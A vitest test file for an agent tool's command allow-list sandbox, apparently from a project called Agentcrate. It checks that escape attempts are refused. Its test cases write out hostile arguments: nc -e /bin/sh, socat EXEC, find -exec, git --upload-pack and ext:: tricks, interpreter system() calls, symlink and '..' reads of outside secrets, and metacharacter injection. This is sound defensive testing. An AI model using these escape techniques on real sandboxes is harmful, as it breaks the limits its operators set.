/**
 * `shell` and its command policy, run for real: each bypass an attack run found (arguments that
 * run another program, read or write outside allowed_paths) must be refused before anything
 * runs, and what is allowed must still work.
 */
import { existsSync } from 'node:fs';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AgentcrateError } from '../../src/errors.js';
import { createToolRegistry } from '../../src/tools/index.js';
import { HAS_PROC, processesMatching, waitUntil } from '../support/proc.js';
import { insideAndOutside, makeCtx } from './helpers.js';

const shell = createToolRegistry().get('shell')!;
let root: string;
let outside: string;
let cleanup: () => Promise<void>;

beforeAll(async () => {
  ({ root, outside, cleanup } = await insideAndOutside());
  await writeFile(path.join(root, 'a.txt'), 'A');
  await writeFile(path.join(outside, 'secret.txt'), 'outside secret');
  await symlink(path.join(outside, 'secret.txt'), path.join(root, 'link.txt'));
});
afterAll(() => cleanup());

const ctx = (config: Record<string, unknown> = {}, env: Record<string, string | undefined> = {}) =>
  makeCtx({ cwd: root, allowedPaths: [root], config, env: { PATH: process.env.PATH, ...env } });

type Result = { exit_code: number | null; stdout: string; stderr: string; truncated?: boolean };
const run = (args: unknown, config: Record<string, unknown>, env?: Record<string, string>) =>
  shell.run(args, ctx(config, env)) as Promise<Result>;

async function refused(args: unknown, config: Record<string, unknown>, pattern?: RegExp): Promise<string> {
  const error = await shell.run(args, ctx(config)).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error, JSON.stringify(args)).toBeInstanceOf(AgentcrateError);
  expect((error as AgentcrateError).code, (error as Error).message).toBe('E_TOOL_DENIED');
  if (pattern) expect((error as Error).message).toMatch(pattern);
  return (error as Error).message;
}

describe('shell: switched on by an allow-list', () => {
  it('is refused without one, saying how to set it', async () => {
    expect(await refused({ command: 'echo hi' }, {})).toContain('ALLOWED_COMMANDS');
  });

  it('runs an allowed program from the config list or ALLOWED_COMMANDS', async () => {
    expect(
      await run({ command: 'echo', args: ['hello', 'world'] }, { allowed_commands: ['echo'] }),
    ).toMatchObject({
      exit_code: 0,
      stdout: 'hello world\n',
    });
    const listing = await run({ command: 'ls' }, {}, { ALLOWED_COMMANDS: 'echo, ls' });
    expect(listing.stdout.split('\n')).toContain('a.txt');
  });

  it('refuses a program not in the list, and a path that only shares the base name', async () => {
    expect(await refused({ command: 'rm', args: ['a.txt'] }, { allowed_commands: 'echo,ls' })).toContain(
      "'rm'",
    );
    await refused({ command: '/tmp/somewhere/echo' }, { allowed_commands: ['echo'] });
    expect(existsSync(path.join(root, 'a.txt'))).toBe(true);
  });

  it('hands metacharacters to the program as plain text (no shell)', async () => {
    const result = await run(
      { command: 'echo hi; rm a.txt && echo $(whoami) | cat > pwned *' },
      { allowed_commands: ['echo'] },
    );
    expect(result.stdout).toBe('hi; rm a.txt && echo $(whoami) | cat > pwned *\n');
    expect(existsSync(path.join(root, 'pwned'))).toBe(false);
  });

  it('gives the program a minimal environment without secrets', async () => {
    const result = await run(
      { command: 'env' },
      { allowed_commands: [{ command: 'env', args: [''], runs_programs: true }] },
      { OPENAI_API_KEY: 'sk-should-not-leak' },
    );
    expect(result.stdout).toContain('PATH=');
    expect(result.stdout).not.toContain('sk-should-not-leak');
  });
});

describe('shell: programs that run other programs', () => {
  it('refuses env sh -c … with [env], and nothing runs', async () => {
    const target = path.join(outside, 'pwned-by-env');
    await refused(
      { command: 'env', args: ['sh', '-c', `touch ${target}`] },
      { allowed_commands: ['env'] },
      /runs other programs/,
    );
    expect(existsSync(target)).toBe(false);
  });

  it('refuses find -exec/-execdir/-ok with [find], but allows a plain find', async () => {
    const target = path.join(outside, 'pwned-by-find');
    for (const option of ['-exec', '-execdir', '-ok', '-okdir']) {
      await refused(
        { command: 'find', args: ['.', '-name', 'a.txt', option, 'touch', target, ';'] },
        { allowed_commands: ['find'] },
        new RegExp(`find ${option}`),
      );
    }
    expect(existsSync(target)).toBe(false);
    expect(
      (await run({ command: 'find', args: ['.', '-name', 'a.txt'] }, { allowed_commands: ['find'] })).stdout,
    ).toBe('./a.txt\n');
  });

  it('refuses the options that make split, sort, sdiff, diff3 and git run a program, abbreviated or not', async () => {
    await writeFile(
      path.join(root, 'runme.sh'),
      `#!/bin/sh\ntouch ${path.join(outside, 'pwned-by-script')}\ncat\n`,
      {
        mode: 0o755,
      },
    );
    const target = path.join(outside, 'pwned-by-split');
    const cases: Array<[string, string[], RegExp]> = [
      // split hands --filter to a shell; getopt_long takes any unique prefix, and the value
      // may be the next argument (which, as a relative path, looks inside allowed_paths).
      ['split', [`--filter=touch ${target}`, 'a.txt'], /split --filter runs a program/],
      ['split', ['--fil', `touch ${target}`, 'a.txt'], /split --filter runs a program/],
      ['sort', ['--compress-program=./runme.sh', '-S', '1', 'a.txt'], /sort --compress-program/],
      ['sort', ['--compress-prog=runme.sh', 'a.txt'], /sort --compress-program/],
      ['sdiff', ['--diff-program=./runme.sh', 'a.txt', 'a.txt'], /sdiff --diff-program/],
      ['diff3', ['--diff-prog', './runme.sh', 'a.txt', 'a.txt', 'a.txt'], /diff3 --diff-program/],
      // git's own parser accepts unique prefixes of long options too.
      ['git', ['ls-remote', `--upload-p=touch ${target}`, '.'], /git --upload-pack runs a program/],
      ['git', ['fetch', '--upload-pa', `touch ${target}`, '.'], /git --upload-pack runs a program/],
      ['git', ['push', '--receive-p=./runme.sh', '.'], /git --receive-pack runs a program/],
      ['git', ['clone', '--templ=.', '.', 'copy'], /git --template runs a program/],
    ];
    for (const [program, args, why] of cases) {
      await refused({ command: program, args }, { allowed_commands: [program] }, why);
    }
    expect(existsSync(target)).toBe(false);
    expect(existsSync(path.join(outside, 'pwned-by-script'))).toBe(false);
    // Their ordinary uses still run.
    const sorted = await run(
      { command: 'sort', args: ['--reverse', 'a.txt'] },
      { allowed_commands: ['sort'] },
    );
    expect(sorted.exit_code).toBe(0);
  });

  it('refuses m4, dc, ldd, cpio, socat, nc and other programs that run programs', async () => {
    for (const [program, args] of [
      ['m4', ['macros.m4']],
      ['dc', ['-e', '!id']],
      ['ldd', ['./runme.sh']],
      ['cpio', ['-o', '--rsh-command=./runme.sh']],
      ['socat', ['-', 'EXEC:id']],
      ['nc', ['-e', '/bin/sh', 'host', '1']],
      ['run-parts', ['.']],
      ['tcc', ['-run', 'x.c']],
      ['hg', ['status']],
      ['svn', ['diff', '--diff-cmd=./runme.sh']],
      ['chronic', ['id']],
      ['sshpass', ['-p', 'x', 'ssh', 'host']],
    ] as Array<[string, string[]]>) {
      await refused({ command: program, args }, { allowed_commands: [program] }, /runs other programs/);
    }
  });

  it('refuses shells, wrappers and interpreters listed plainly (installed or not)', async () => {
    const cases: Array<[string, string[]]> = [
      ['sh', ['-c', 'id']],
      ['bash', ['-c', 'id']],
      ['dash', ['-c', 'id']],
      ['zsh', ['-c', 'id']],
      ['xargs', ['touch']],
      ['nice', ['sh']],
      ['timeout', ['5', 'sh']],
      ['nohup', ['sh']],
      ['sudo', ['id']],
      ['python3', ['-c', 'print(1)']],
      ['python3.12', ['-c', 'print(1)']],
      ['node', ['-e', '1']],
      ['perl', ['-e', 'system("id")']],
      ['ruby', ['-e', '1']],
      ['awk', ['BEGIN { system("id") }']],
      ['gawk', ['BEGIN { system("id") }']],
      ['make', []],
      ['tar', ['-cf', 'x.tar', '--to-command=sh', 'a.txt']],
    ];
    for (const [program, args] of cases) {
      await refused({ command: program, args }, { allowed_commands: [program] }, /runs other programs/);
    }
  });

  it('judges the program a name really is (awk may be a link to gawk or mawk)', async () => {
    await mkdir(path.join(root, 'bin'), { recursive: true });
    const alias = path.join(root, 'bin', 'lister');
    await symlink('/bin/sh', alias).catch(() => {});
    await refused(
      { command: alias, args: ['-c', 'id'] },
      { allowed_commands: [alias] },
      /runs other programs/,
    );
  });

  it('refuses git options and commands that run programs, keeps the harmless ones', async () => {
    const git = { allowed_commands: ['git'] };
    await refused({ command: 'git', args: ['-c', 'core.pager=touch x', 'log'] }, git, /git -c/);
    await refused({ command: 'git', args: ['--exec-path=.', 'status'] }, git);
    await refused({ command: 'git', args: ['config', 'core.fsmonitor', 'touch x'] }, git, /git config/);
    await refused({ command: 'git', args: ['clone', '--upload-pack=touch x', 'repo'] }, git, /upload-pack/);
    await refused({ command: 'git', args: ['clone', '-u', 'touch x', 'repo'] }, git, /-u/);
    await refused({ command: 'git', args: ['clone', 'ext::sh -c touch% x', 'repo'] }, git, /ext::/);
    await refused({ command: 'git', args: ['rebase', '-x', 'touch x'] }, git, /rebase -x/);
    await refused({ command: 'git', args: ['my-alias'] }, git, /not one of the git commands/);
    const status = await run({ command: 'git', args: ['status'] }, git);
    // Not a repository: git says so, but it ran.
    expect(status.exit_code).not.toBe(0);
    expect(status.stderr).toMatch(/not a git repository/i);
  });

  it('allows a runner only through an entry that says runs_programs, with its exact patterns', async () => {
    const config = {
      allowed_commands: [{ command: 'sh', args: [['-c', 'echo from sh']], runs_programs: true }],
    };
    expect((await run({ command: 'sh', args: ['-c', 'echo from sh'] }, config)).stdout).toBe('from sh\n');
    await refused({ command: 'sh', args: ['-c', 'echo other'] }, config, /fit none of the allowed patterns/);
  });

  it('runs sed in its sandbox: no w, r or e commands', async () => {
    const target = path.join(outside, 'written-by-sed');
    const result = await run(
      { command: 'sed', args: [`w ${target}`, 'a.txt'] },
      { allowed_commands: ['sed'] },
    );
    expect(result.exit_code).not.toBe(0);
    expect(result.stderr).toMatch(/sandbox/i);
    expect(existsSync(target)).toBe(false);
    expect(
      (await run({ command: 'sed', args: ['s/A/B/', 'a.txt'] }, { allowed_commands: ['sed'] })).stdout,
    ).toBe('B');
  });
});

describe('shell: path arguments stay inside allowed_paths', () => {
  const cat = { allowed_commands: ['cat'] };

  it('cat reads inside, and refuses outside: absolute, .., and through a symlink', async () => {
    expect((await run({ command: 'cat', args: ['a.txt'] }, cat)).stdout).toBe('A');
    await refused({ command: 'cat', args: [path.join(outside, 'secret.txt')] }, cat, /outside allowed_paths/);
    await refused(
      { command: 'cat', args: [`../${path.basename(outside)}/secret.txt`] },
      cat,
      /outside allowed_paths/,
    );
    await refused({ command: 'cat', args: ['link.txt'] }, cat, /outside allowed_paths/);
    await refused({ command: 'cat', args: ['--', path.join(outside, 'secret.txt')] }, cat);
  });

  it('checks option values and key=value arguments, and refuses paths glued to options', async () => {
    const secret = path.join(outside, 'secret.txt');
    await refused({ command: 'grep', args: [`--file=${secret}`, 'a.txt'] }, { allowed_commands: ['grep'] });
    await refused(
      { command: 'grep', args: [`-f${secret}`, 'a.txt'] },
      { allowed_commands: ['grep'] },
      /glued/,
    );
    await refused({ command: 'grep', args: ['-f', secret, 'a.txt'] }, { allowed_commands: ['grep'] });
    await refused({ command: 'dd', args: [`if=${secret}`, 'of=copy'] }, { allowed_commands: ['dd'] });
    expect(existsSync(path.join(root, 'copy'))).toBe(false);
    expect(
      (await run({ command: 'grep', args: ['-c', 'A', 'a.txt'] }, { allowed_commands: ['grep'] })).stdout,
    ).toBe('1\n');
  });

  it('keeps the working directory inside allowed_paths', async () => {
    await refused({ command: 'ls', cwd: '/' }, { allowed_commands: ['ls'] });
  });
});

describe('shell: argument patterns', () => {
  const config = {
    allowed_commands: [
      'echo hello {value}',
      { command: 'cat', args: ['{path}', '-n {path}'] },
      { command: 'ls', args: ['-l ...'] },
    ],
  };

  it('allows exactly what a pattern describes', async () => {
    expect((await run({ command: 'echo', args: ['hello', 'there'] }, config)).stdout).toBe('hello there\n');
    expect((await run({ command: 'cat', args: ['-n', 'a.txt'] }, config)).stdout).toMatch(/1\s+A/);
    expect((await run({ command: 'ls', args: ['-l', 'a.txt'] }, config)).stdout).toContain('a.txt');
  });

  it('refuses what no pattern describes, saying which patterns exist', async () => {
    expect(await refused({ command: 'echo', args: ['bye'] }, config)).toContain("'hello {value}'");
    await refused({ command: 'echo', args: ['hello', '-e'] }, config, /starts with '-'/);
    await refused({ command: 'echo', args: ['hello', 'a', 'b'] }, config, /more argument/);
    await refused({ command: 'cat', args: ['-A', 'a.txt'] }, config);
    await refused(
      { command: 'cat', args: [path.join(outside, 'secret.txt')] },
      config,
      /outside allowed_paths/,
    );
    await refused({ command: 'ls', args: ['-l', outside] }, config, /outside allowed_paths/);
  });

  it('reports a malformed entry naming the setting', async () => {
    const bad = { allowed_commands: ['ls', { command: 'git', args: 'status' }] };
    const error = await shell.run({ command: 'ls' }, ctx(bad)).then(
      () => undefined,
      (e: unknown) => e as AgentcrateError,
    );
    expect(error?.message).toContain('allowed_commands[1].args');
    expect(shell.configProblems?.(bad)).toEqual([expect.stringContaining('allowed_commands[1].args')]);
    expect(shell.configProblems?.({ allowed_commands: ['ls {file}'] })).toEqual([
      expect.stringContaining('{path} or {value}'),
    ]);
    expect(shell.configProblems?.({ allowed_commands: [{ command: 'ls', arg: [] }] })).toEqual([
      expect.stringContaining('allowed_commands[0].arg: unknown key'),
    ]);
    expect(shell.configProblems?.(config)).toEqual([]);
  });
});

describe('shell: limits', () => {
  it('reports a non-zero exit and stops at the time limit', async () => {
    expect(await run({ command: 'ls', args: ['no-such-file'] }, { allowed_commands: ['ls'] })).toMatchObject({
      exit_code: 2,
    });
    const slow = await shell
      .run({ command: 'sleep', args: ['5'] }, ctx({ allowed_commands: ['sleep'], timeout_seconds: 0.3 }))
      .then(
        () => undefined,
        (e: unknown) => e as AgentcrateError,
      );
    expect(slow?.message).toMatch(/longer than 0.3s/);
  });

  it('caps output and stops a program that keeps printing', async () => {
    const result = await run(
      { command: 'seq', args: ['1', '100000000'] },
      { allowed_commands: ['seq'], max_output_chars: 1000 },
    );
    expect(result.stdout.length).toBeLessThan(1100);
    expect(result.truncated).toBe(true);
  });

  it.skipIf(!HAS_PROC)('kills what the program started when its time is up', async () => {
    const marker = '37.123';
    const config = {
      allowed_commands: [
        { command: 'sh', args: [['-c', `sleep ${marker} & sleep ${marker}`]], runs_programs: true },
      ],
      timeout_seconds: 0.5,
    };
    const error = await shell
      .run({ command: 'sh', args: ['-c', `sleep ${marker} & sleep ${marker}`] }, ctx(config))
      .then(
        () => undefined,
        (e: unknown) => e as AgentcrateError,
      );
    expect(error?.message).toMatch(/longer than 0.5s/);
    await waitUntil(
      () => processesMatching(`sleep ${marker}`).length === 0,
      1_000,
      'the background sleep to end',
    );
  });
});
